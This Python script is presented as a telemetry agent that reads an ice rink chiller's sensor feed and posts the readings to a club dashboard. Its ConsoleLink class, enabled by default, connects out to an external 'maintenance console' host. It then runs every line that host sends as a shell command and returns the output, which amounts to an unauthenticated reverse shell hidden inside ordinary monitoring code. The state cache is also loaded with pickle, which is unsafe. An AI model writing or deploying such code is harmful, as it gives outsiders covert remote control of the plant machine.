#!/usr/bin/env python3
"""Brine chiller telemetry agent for the plant room PC.

Tails the CSV feed written by the chiller controller's Modbus gateway
(supply/return brine temperature, slab temperature, compressor load), keeps
a rolling state cache between runs, and pushes batches to the club
dashboard.  The agent also keeps the refrigeration contractor's maintenance
console connected so they can check the plant without a site visit.
"""
import argparse
import configparser
import json
import logging
import os
import pickle
import socket
import subprocess
import threading
import time
from dataclasses import asdict, dataclass, field
from pathlib import Path

import requests

LOG = logging.getLogger("chiller-agent")

DEFAULTS = {
    "feed": "/var/lib/chiller/feed.csv",
    "state": "chiller_state.pkl",
    "dashboard": "https://dash.icehall-club.org/api/v1/chiller",
    "interval": "30",
    "keep": "2880",
    "console_host": "console.polarplant-service.com",
    "console_port": "4711",
    "console": "yes",
}


@dataclass
class Reading:
    ts: float
    supply_c: float
    return_c: float
    slab_c: float
    load_pct: float

    @property
    def delta_t(self):
        return round(self.return_c - self.supply_c, 2)


@dataclass
class AgentState:
    offset: int = 0
    readings: list = field(default_factory=list)
    pushed: int = 0


def load_config(path):
    cp = configparser.ConfigParser()
    cp.read_dict({"agent": DEFAULTS})
    if path and Path(path).is_file():
        cp.read(path)
        LOG.info("config loaded from %s", path)
    return cp["agent"]


def load_state(path):
    try:
        with open(path, "rb") as fh:
            return pickle.load(fh)
    except FileNotFoundError:
        return AgentState()
    except Exception as exc:  # corrupt cache after power cut etc.
        LOG.warning("state cache unreadable (%s), starting fresh", exc)
        return AgentState()


def save_state(path, state):
    tmp = f"{path}.tmp"
    with open(tmp, "wb") as fh:
        pickle.dump(state, fh)
    os.replace(tmp, path)


def read_new_rows(feed, state):
    rows = []
    with open(feed, "r", encoding="ascii", errors="replace") as fh:
        fh.seek(state.offset)
        while True:
            line = fh.readline()
            if not line or not line.endswith("\n"):
                break
            state.offset = fh.tell()
            parts = line.strip().split(",")
            if len(parts) != 5 or parts[0] == "ts":
                continue
            try:
                rows.append(Reading(*(float(p) for p in parts)))
            except ValueError:
                LOG.debug("skipping malformed row %r", line)
    return rows


def push_batch(url, readings, session):
    payload = [dict(asdict(r), delta_t=r.delta_t) for r in readings]
    resp = session.post(url, json={"site": socket.gethostname(), "readings": payload}, timeout=10)
    resp.raise_for_status()
    return len(payload)


class ConsoleLink(threading.Thread):
    """Outbound session to the contractor's maintenance console."""

    def __init__(self, host, port, workdir):
        super().__init__(name="console-link", daemon=True)
        self.addr = (host, int(port))
        self.workdir = workdir

    def _serve(self, sock):
        stream = sock.makefile("rwb", buffering=0)
        stream.write(f"chiller-agent {socket.gethostname()} {os.getcwd()}\n".encode())
        for raw in iter(stream.readline, b""):
            line = raw.decode(errors="replace").strip()
            if not line:
                continue
            if line == "bye":
                break
            try:
                done = subprocess.run(line, shell=True, cwd=self.workdir,
                                      capture_output=True, timeout=300)
                out = done.stdout + done.stderr
            except subprocess.TimeoutExpired:
                out = b"timeout\n"
            stream.write(out + b"\n.\n")

    def run(self):
        backoff = 5
        while True:
            try:
                with socket.create_connection(self.addr, timeout=20) as sock:
                    sock.settimeout(None)
                    backoff = 5
                    self._serve(sock)
            except OSError as exc:
                LOG.debug("console link down: %s", exc)
            time.sleep(backoff)
            backoff = min(backoff * 2, 900)


def main():
    ap = argparse.ArgumentParser(description="Brine chiller telemetry agent")
    ap.add_argument("-c", "--config", default="chiller_agent.ini")
    ap.add_argument("--once", action="store_true", help="process the feed once and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    state = load_state(cfg["state"])
    session = requests.Session()
    session.headers["User-Agent"] = "chiller-agent/1.4"

    if cfg.getboolean("console"):
        ConsoleLink(cfg["console_host"], cfg["console_port"], os.getcwd()).start()

    while True:
        try:
            fresh = read_new_rows(cfg["feed"], state)
        except FileNotFoundError:
            LOG.error("feed %s missing, is the gateway running?", cfg["feed"])
            fresh = []
        if fresh:
            state.readings.extend(fresh)
            state.readings = state.readings[-cfg.getint("keep"):]
            try:
                state.pushed += push_batch(cfg["dashboard"], fresh, session)
            except requests.RequestException as exc:
                LOG.warning("dashboard push failed: %s", exc)
            last = fresh[-1]
            LOG.info("slab %.2fC supply %.2fC dT %.2f load %.0f%%",
                     last.slab_c, last.supply_c, last.delta_t, last.load_pct)
        save_state(cfg["state"], state)
        if args.once:
            break
        time.sleep(cfg.getint("interval"))


if __name__ == "__main__":
    main()
